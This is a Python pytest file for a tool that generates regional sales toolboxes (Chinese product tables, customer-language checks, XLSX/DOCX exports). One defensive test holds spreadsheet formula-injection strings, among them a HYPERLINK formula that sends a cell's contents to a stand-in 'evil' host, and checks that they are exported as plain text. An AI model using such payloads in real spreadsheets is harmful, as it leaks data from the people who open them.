"""The sales toolbox per region: local product names, customer language, XLSX/DOCX exports."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import docx
import openpyxl
import pandas as pd
import pytest
from docx.oxml.ns import qn

from casekit import domain
from casekit.authoring.toolbox import (
    EVIDENCE_FEW,
    JARGON,
    PHRASEBOOK_NOTE,
    REVIEW_COLUMNS,
    TITLES,
    Toolbox,
    build_toolbox,
    evidence_sentence,
    jargon_findings,
    research_date,
    review_markdown,
    table_title,
    write_review,
    write_toolbox_docx,
    write_toolbox_xlsx,
)
from casekit.exceptions import RegionError
from casekit.intake import load_bundle
from casekit.paths import SAMPLE_BUNDLE

pytestmark = pytest.mark.skipif(
    not (SAMPLE_BUNDLE / "manifest.yaml").is_file(), reason="sample bundle missing (run `casekit sample`)"
)

REGIONS = ["beijing", "tianjin", "hebei", "shandong", "nanning"]


@pytest.fixture(scope="module")
def bundle():
    return load_bundle(SAMPLE_BUNDLE)


@pytest.fixture(scope="module")
def hebei(bundle) -> Toolbox:
    return build_toolbox(bundle, "河北")


def _cells(toolbox: Toolbox) -> list[str]:
    return [str(v) for _, frame in toolbox.tables() for v in frame.to_numpy().ravel() if str(v)]


def test_tables_use_the_regions_local_product_names(bundle):
    hebei, nanning = build_toolbox(bundle, "hebei"), build_toolbox(bundle, "南宁")
    assert "宽视界" in hebei.product_needs["产品"].tolist()
    assert "视频看店" in nanning.product_needs["产品"].tolist()
    assert "视频看店" not in _cells(hebei) and "宽视界" not in _cells(nanning)
    security = domain.CUSTOMER_NEEDS["security"].label
    assert hebei.product_needs.set_index("产品").at["宽视界", security] == "晚上关门后有人动仓库，手机上就能收到报警"
    assert hebei.pick_lists["opportunities"]["对应产品"] == hebei.products
    assert "视频看店" in nanning.pick_lists["visit_plan"]["准备介绍的产品"]


@pytest.mark.parametrize("region", REGIONS)
def test_every_catalogue_product_appears_and_no_technical_text_is_copied(bundle, region):
    toolbox = build_toolbox(bundle, region)
    rows = bundle.catalogue[bundle.catalogue["region_id"] == region]
    assert sorted(toolbox.products) == sorted(rows["local_name"])
    for frame in (toolbox.product_needs, toolbox.product_departments):
        assert sorted(frame["产品"]) == sorted(rows["local_name"])
    linked = {n for cell in toolbox.need_departments.iloc[:, 1:].to_numpy().ravel() for n in str(cell).split("、") if n}
    assert linked == set(rows["local_name"])  # every product links some need to some department
    cells = _cells(toolbox)
    for technical in rows["technical_description"].dropna():
        # neither the whole description nor a sentence-long piece of it (product names may recur)
        assert not any(technical in c or (len(c) >= 10 and c in technical) for c in cells)
    # columns are the vocabularies' Chinese labels
    assert list(toolbox.product_needs.columns[1:]) == [t.label for t in domain.CUSTOMER_NEEDS.values()]
    assert list(toolbox.need_departments.columns[1:]) == [t.label for t in domain.CUSTOMER_DEPARTMENTS.values()]


@pytest.mark.parametrize("region", REGIONS)
def test_client_facing_cells_are_in_customer_language(bundle, region):
    findings = build_toolbox(bundle, region).jargon
    if region != "hebei":
        assert findings.empty, findings.to_string()
    else:
        # Hebei's catalogue says 商务领航 saves "买服务器": the check finds it for the consultant
        assert set(findings["行"]) == {"商务领航"} and set(findings["术语"]) == {"服务器"}
    # and the list is wider than one word; the templates and guides themselves are clean
    assert {"带宽", "码流", "协议", "组网拓扑", "服务器", "分辨率", "并发"} <= set(JARGON)


def test_the_check_finds_jargon_in_any_cell_and_header():
    frame = pd.DataFrame({"产品": ["宽视界"], "提高效率": ["支持D1分辨率和4路并发"]})
    found = jargon_findings([("product_needs", frame), ("x", pd.DataFrame(columns=["带宽"]))])
    assert set(found["术语"]) == {"分辨率", "并发", "带宽"}
    assert found.iloc[0]["表"] == TITLES["product_needs"] and found.iloc[0]["行"] == "宽视界"


def test_need_department_cells_name_the_linking_products(hebei):
    table = hebei.need_departments.set_index("客户需求")
    assert table.at["安全防范", "安保部"] == "宽视界"
    assert "电话黄页" in table.at["获取客户", "销售市场部"].split("、")
    assert table.at["安全防范", "财务部"] == ""


def test_target_customer_model_covers_the_industries_of_the_research(bundle, hebei):
    model = hebei.target_customers.set_index("行业")
    visits = bundle.ride_alongs[bundle.ride_alongs["top_region_id"] == "hebei"]
    for ind in visits["industry"].unique():
        assert domain.INDUSTRIES[ind].label in model.index
    assert "酒店" in model.index  # only an interview note (tag 酒店) mentions hotels in Hebei
    assert model.at["零售超市", "主推产品"].split("、")[0] == "宽视界"  # won and advanced there
    assert "安全防范" in model.at["零售超市", "典型需求"]
    # five ride-alongs and a note: ample; a single note: few
    assert model.at["零售超市", "证据"].endswith("（证据较多）")
    assert model.at["酒店", "证据"] == "访谈与随访记录2篇（证据少，需要在工作中继续验证）"
    assert model.at["酒店", "主推产品"].startswith("商务领航·酒店版")
    assert all(line.endswith("？") for q in model["开场提问"] for line in q.split("\n"))
    products = set(hebei.products)
    assert all(p in products for cell in model["主推产品"] for p in cell.split("、"))


def test_management_tables_are_blank_templates_with_pick_lists(hebei):
    for key in hebei.templates:
        frame = getattr(hebei, key)
        assert frame.empty and len(frame.columns) >= 8 and frame.columns[0] == "客户名称"
        for column in hebei.pick_lists[key]:
            assert column in frame.columns
    offered = hebei.pick_lists["decision_chain"]["部门"]
    assert set(t.label for t in domain.CUSTOMER_DEPARTMENTS.values()) <= set(offered)
    assert len(set(offered)) == len(offered)


def test_pick_lists_offer_the_industries_own_departments(hebei):
    # a hospital's 院办 or 信息科 can be recorded in 客户管理表二 and 三, not only 信息技术部、运营部
    for key, column in (("decision_chain", "部门"), ("opportunities", "提出需求的部门")):
        offered = hebei.pick_lists[key][column]
        for name in ("院办", "信息科", "药房", "前厅部", "售楼处", "教务处"):
            assert name in offered
        assert offered.index("院办") < offered.index("信息技术部")  # the industries' own names first


def test_a_city_resolves_to_its_province_and_unknown_regions_are_errors(bundle):
    assert build_toolbox(bundle, "保定").region_id == "hebei"
    with pytest.raises(RegionError):
        build_toolbox(bundle, "广州")


def test_research_date_is_the_last_date_of_the_period():
    assert research_date("2008-08 至 2008-10") == dt.datetime(2008, 10, 1)
    assert research_date("2008年8月—2008年9月15日") == dt.datetime(2008, 9, 15)
    assert research_date("秋季") == dt.datetime(2000, 1, 1)


def test_xlsx_has_cover_tables_and_pick_lists_and_is_reproducible(hebei, tmp_path: Path):
    a = write_toolbox_xlsx(hebei, tmp_path / "a.xlsx")
    b = write_toolbox_xlsx(hebei, tmp_path / "sub" / "b.xlsx")
    assert a.read_bytes() == b.read_bytes()
    wb = openpyxl.load_workbook(a)
    assert wb.sheetnames == ["使用说明", *(table_title(key) for key, _ in hebei.tables()), "选项"]
    assert "产品×部门需求·医院" in wb.sheetnames and "产品价格与套餐" in wb.sheetnames
    assert all(len(name) <= 31 for name in wb.sheetnames)
    assert wb["选项"].sheet_state == "hidden"
    cover = [v for row in wb["使用说明"].iter_rows(values_only=True) for v in row if v]
    assert "华北网通、南宁电信（样例）" in cover and "河北" in cover and "2008-08 至 2008-10" in cover
    assert wb.properties.created == dt.datetime(2008, 10, 1) == wb.properties.modified

    ws = wb[TITLES["product_needs"]]
    assert ws["A1"].value == "产品" and ws["A1"].font.b and ws.freeze_panes == "B2"
    assert ws["A2"].alignment.wrap_text
    names = [ws.cell(r, 1).value for r in range(2, ws.max_row + 1)]
    assert sorted(names) == sorted(hebei.products)
    assert ws.column_dimensions["A"].width >= 2 * len("商务领航CRM模块") - 4  # CJK counted double

    ws = wb[TITLES["opportunities"]]
    header = [c.value for c in ws[1]]
    column = openpyxl.utils.get_column_letter(header.index("对应产品") + 1)
    validations = {str(dv.sqref): dv.formula1 for dv in ws.data_validations.dataValidation}
    name = validations[f"{column}2:{column}51"]
    sheet, ref = next(iter(wb.defined_names[name].destinations))
    values = [c.value for row in wb[sheet][ref.replace("$", "")] for c in row]
    assert tuple(values) == hebei.products


def test_docx_has_chinese_guides_tables_and_east_asian_fonts(hebei, tmp_path: Path):
    a = write_toolbox_docx(hebei, tmp_path / "a.docx")
    assert a.read_bytes() == write_toolbox_docx(hebei, tmp_path / "b.docx").read_bytes()
    doc = docx.Document(str(a))
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "河北转型产品营销工具箱" in text and "客户管理表四 拜访与跟进计划" in text
    assert len(doc.tables) == len(hebei.tables())
    assert doc.tables[0].rows[0].cells[0].text == "产品"
    assert {r.cells[0].text for r in doc.tables[0].rows[1:]} == set(hebei.products)
    assert doc.styles["Normal"].element.rPr.rFonts.get(qn("w:eastAsia")) == "宋体"
    runs = [r for p in doc.paragraphs for r in p.runs if r.text]
    assert runs and all(r._r.rPr.rFonts.get(qn("w:eastAsia")) == "宋体" for r in runs)
    # the jargon finding goes to the consultant's list, not to the account managers' document
    assert "请改写" not in text and "技术用语" not in text
    assert "服务器" in hebei.review["问题"].str.cat()


HOSTILE = ('=HYPERLINK("http://evil/"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)")


def test_catalogue_text_that_looks_like_a_formula_is_text_in_the_xlsx(bundle, tmp_path: Path):
    import dataclasses

    catalogue = bundle.catalogue.copy()
    rows = catalogue.index[catalogue["region_id"] == "hebei"][: len(HOSTILE)]
    for index, text in zip(rows, HOSTILE):
        catalogue.at[index, "local_name"] = text
        catalogue.at[index, "customer_value"] = f"{text}（客户的话）" if text != "-2+3" else text
    hostile = dataclasses.replace(bundle, catalogue=catalogue)
    path = write_toolbox_xlsx(build_toolbox(hostile, "hebei"), tmp_path / "hebei.xlsx")

    wb = openpyxl.load_workbook(path)
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert set(HOSTILE) <= values  # the text is intact: product names in tables and pick-lists
    assert all(c.quotePrefix for c in cells if c.value in HOSTILE)  # stays text when edited in Excel
    assert HOSTILE[0] in {v for row in wb["选项"].iter_rows(values_only=True) for v in row}  # drop-down list


# -- issue 13: a toolbox that speaks per department and industry -------------------------------


def _office_text(path: Path) -> str:
    if path.suffix == ".xlsx":
        book = openpyxl.load_workbook(path)
        return "\n".join(str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row
                         if c.value is not None)
    doc = docx.Document(str(path))
    return "\n".join([p.text for p in doc.paragraphs]
                     + [c.text for t in doc.tables for row in t.rows for c in row.cells])


@pytest.mark.parametrize("region", REGIONS)
def test_each_department_hears_its_own_sentence(bundle, region):
    toolbox = build_toolbox(bundle, region)
    for key, frame in toolbox.tables():
        if not (key == "product_departments" or key.startswith("industry_departments:")):
            continue
        for _, row in frame.iterrows():
            said = [str(v) for v in row.iloc[1:] if str(v)]
            assert len(said) == len(set(said)), (key, row.iloc[0], said)
    # where the catalogue lists several departments for a product, several sentences are said
    table = toolbox.product_departments.set_index("产品")
    rows = bundle.catalogue[bundle.catalogue["region_id"] == region]
    for name, departments in zip(rows["local_name"], rows["departments"]):
        labels = [domain.CUSTOMER_DEPARTMENTS[d].label for d in departments]
        assert all(table.at[name, label] for label in labels)
        assert len({table.at[name, label] for label in labels}) == len(labels)


def test_a_hospital_is_approached_through_its_own_departments(bundle):
    nanning = build_toolbox(bundle, "南宁")
    assert "hospital" in nanning.industry_departments
    hospital = nanning.industry_departments["hospital"]
    assert {"院办（院长）", "信息科（信息科长）", "门诊部（门诊部主任）", "药房（药房主任）"} <= set(hospital.columns)
    assert not {"销售市场部", "总经理/决策层", "运营部"} & set(hospital.columns)
    crm = hospital.set_index("产品").loc["客户关系管理模块"]
    assert "病人" in crm["院办（院长）"] and "取药" in crm["药房（药房主任）"]
    model = nanning.target_customers.set_index("行业")
    assert model.at["医院", "先接触的部门"].startswith("院办（院长）")
    assert "销售市场部" not in model.at["医院", "先接触的部门"]
    assert model.at["医院", "开场提问"].startswith("院长：")
    # every industry has a cast of its own: a school is approached through its principal
    assert "校长" in model.at["教育", "先接触的部门"]
    assert not nanning.review["问题"].str.startswith("通用部门").any()


def test_prices_and_packages_are_in_the_toolbox(bundle, tmp_path: Path):
    nanning = build_toolbox(bundle, "nanning")
    rows = bundle.catalogue[bundle.catalogue["region_id"] == "nanning"].set_index("local_name")
    prices = nanning.prices.set_index("产品")
    assert sorted(prices.index) == sorted(rows.index)
    for name in rows.index:
        assert prices.at[name, "价格"] == rows.at[name, "price"]
        assert prices.at[name, "套餐"] == rows.at[name, "package"]
    assert prices.at["视频看店", "同类业务"] == "宽带监控"
    text = _office_text(write_toolbox_xlsx(nanning, tmp_path / "n.xlsx"))
    assert "每月150元" in text and "视频看店 2路" in text
    assert "每月150元" in _office_text(write_toolbox_docx(nanning, tmp_path / "n.docx"))


def test_nanning_asks_each_industry_its_own_opening_questions(bundle):
    model = build_toolbox(bundle, "南宁").target_customers
    assert len(model) >= 7
    firsts = [q.split("\n")[0] for q in model["开场提问"]]
    assert len(set(firsts)) == len(firsts)  # the decision maker's first question differs per industry
    assert len(set(model["开场提问"])) == len(model)
    assert all(len(q.split("\n")) >= 2 for q in model["开场提问"])  # more than one person is asked


@pytest.mark.parametrize(("visits", "notes", "said"), [
    (2, 1, "工作随访2次、访谈与随访记录1篇（证据少，需要在工作中继续验证）"),
    (0, 1, "访谈与随访记录1篇（证据少，需要在工作中继续验证）"),
    (EVIDENCE_FEW - 1, 0, f"工作随访{EVIDENCE_FEW - 1}次（证据少，需要在工作中继续验证）"),
    (EVIDENCE_FEW, 0, f"工作随访{EVIDENCE_FEW}次（证据一般：只有工作随访，需要用访谈印证）"),
    (EVIDENCE_FEW - 1, 1, f"工作随访{EVIDENCE_FEW - 1}次、访谈与随访记录1篇（证据较多）"),
])
def test_evidence_is_said_plainly_from_counts(visits, notes, said):
    assert evidence_sentence(visits, notes) == said


@pytest.mark.parametrize("region", REGIONS)
def test_few_pieces_of_research_are_never_called_ample(bundle, region):
    import re

    for said in build_toolbox(bundle, region).target_customers["证据"]:
        visits = sum(int(n) for n in re.findall(r"工作随访(\d+)次", said))
        notes = sum(int(n) for n in re.findall(r"访谈与随访记录(\d+)篇", said))
        assert ("证据少" in said) == (visits + notes < EVIDENCE_FEW), said
        assert "较充分" not in said


@pytest.mark.parametrize("region", REGIONS)
def test_no_editing_notes_in_the_account_managers_files(bundle, region, tmp_path: Path):
    toolbox = build_toolbox(bundle, region)
    for path in (write_toolbox_xlsx(toolbox, tmp_path / "t.xlsx"), write_toolbox_docx(toolbox, tmp_path / "t.docx")):
        text = _office_text(path)
        for note in ("请改写", "待补充", "待修改", "cast.yaml", "department_values", "customer_value"):
            assert note not in text, (path.name, note)


def test_the_review_list_collects_what_the_consultant_must_fix(bundle, tmp_path: Path):
    import dataclasses

    catalogue = bundle.catalogue.copy()
    at = catalogue.index[(catalogue["region_id"] == "nanning") & (catalogue["local_name"] == "视频看店")][0]
    catalogue.at[at, "price"] = None
    catalogue.at[at, "canonical_product"] = "新业务"  # not in the phrasebook: the catalogue's one sentence
    own = catalogue.index[(catalogue["region_id"] == "nanning") & (catalogue["local_name"] == "企业虚拟网")][0]
    catalogue["department_values"] = None
    catalogue.at[own, "department_values"] = {"finance": "各网点的钱每天汇到一本账上"}
    toolbox = build_toolbox(dataclasses.replace(bundle, catalogue=catalogue), "nanning")

    assert list(toolbox.review.columns) == list(REVIEW_COLUMNS)
    review = toolbox.review.set_index(["表", "行", "列"])
    assert review.loc[("产品价格与套餐", "视频看店", "价格"), "问题"].startswith("缺价格")
    assert toolbox.prices.set_index("产品").at["视频看店", "价格"] == "以本地最新资费为准"
    same = review.loc[("产品×部门需求", "视频看店", "安保部"), "问题"]
    assert same.startswith("同一句话") and "department_values" in review.loc[("产品×部门需求", "视频看店", "安保部"), "建议"]
    # the catalogue's own sentence for a department comes first
    assert toolbox.product_departments.set_index("产品").at["企业虚拟网", "财务部"] == "各网点的钱每天汇到一本账上"

    page = review_markdown(toolbox)
    assert page.startswith("# 南宁转型产品营销工具箱：待修改清单") and "| 产品价格与套餐 | 视频看店 | 价格 |" in page
    path = write_review(toolbox, tmp_path / "nanning_待修改清单.md")
    assert path.read_text(encoding="utf-8") == page
    text = _office_text(write_toolbox_docx(toolbox, tmp_path / "n.docx"))
    assert "缺价格" not in text and "同一句话" not in text


# -- the senior trainer's review (issue 13) -----------------------------------------------------


def test_a_product_made_for_an_industry_is_only_on_that_industrys_sheet(hebei):
    # 商务领航·酒店版 was offered on the hospital, school, supermarket … sheets
    assert hebei.industry_departments, "Hebei's research meets industries with their own cast"
    for industry, frame in hebei.industry_departments.items():
        assert ("商务领航·酒店版" in set(frame["产品"])) == (industry == "hotel"), industry
    for ind, lead in zip(hebei.target_customers["行业"], hebei.target_customers["主推产品"]):
        assert ind == "酒店" or "酒店版" not in lead


@pytest.fixture(scope="module")
def nanning(bundle) -> Toolbox:
    return build_toolbox(bundle, "南宁")


def _cell(toolbox: Toolbox, industry: str, product: str, column_start: str) -> str:
    frame = toolbox.industry_departments[industry].set_index("产品")
    column = next(c for c in frame.columns if c.startswith(column_start))
    return str(frame.at[product, column])


def test_a_generic_sentence_about_shops_or_orders_is_not_told_to_a_hospital_or_an_estate(nanning):
    assert "下订单" not in _cell(nanning, "hospital", "天翼189", "市场部")
    assert "这类店" not in _cell(nanning, "real_estate", "号码百事通", "售楼处")
    shops = ("店里", "这类店", "下订单", "货架", "样册", "店门口")
    for industry in ("hospital", "real_estate", "education"):
        frame = nanning.industry_departments[industry]
        said = [str(v) for v in frame.drop(columns="产品").to_numpy().ravel() if str(v)]
        assert said, industry
        assert not [t for t in said if any(w in t for w in shops)], industry
    # a supermarket still hears about its shops
    retail = nanning.industry_departments["retail"].drop(columns="产品").to_numpy().ravel()
    assert any("这类店" in str(v) for v in retail)


def test_each_need_of_a_product_hears_its_own_sentence(bundle):
    for region in REGIONS:
        toolbox = build_toolbox(bundle, region)
        for _, row in toolbox.product_needs.iterrows():
            said = [str(v) for v in row.iloc[1:] if str(v)]
            assert len(said) == len(set(said)), (region, row["产品"], said)
    nanning = build_toolbox(bundle, "南宁").product_needs.set_index("产品")
    crm = nanning.loc["客户关系管理模块"]
    assert crm["获取客户"].startswith("老客户什么时候该回访")  # the catalogue's sentence, where it fits
    assert not crm["增加收入"].startswith("老客户什么时候该回访")


def test_the_review_list_says_which_cells_are_casekits_words_once_per_product(nanning):
    review = nanning.review
    generic = review[review["问题"].str.startswith(PHRASEBOOK_NOTE)]
    assert not generic.empty
    assert generic["行"].is_unique  # one summary line per product, not per cell
    assert "没有需要修改的地方" not in review_markdown(nanning)
    assert PHRASEBOOK_NOTE in review_markdown(nanning)


def test_the_toolbox_and_the_guide_count_the_same_research_in_the_same_words(bundle):
    from casekit.authoring.diagnosis_guide import build_diagnosis_guide

    for region in ("nanning", "hebei"):
        model = build_toolbox(bundle, region).target_customers.set_index("行业")["证据"]
        guide = build_diagnosis_guide(bundle, region)
        seen = {i.label: i.basis for i in guide.industries if i.seen}
        assert set(seen) == set(model.index)
        for label, said in model.items():
            assert said in seen[label], (region, label)
    supermarkets = build_toolbox(bundle, "南宁").target_customers.set_index("行业").at["零售超市", "证据"]
    assert supermarkets.startswith("访谈与随访记录2篇")
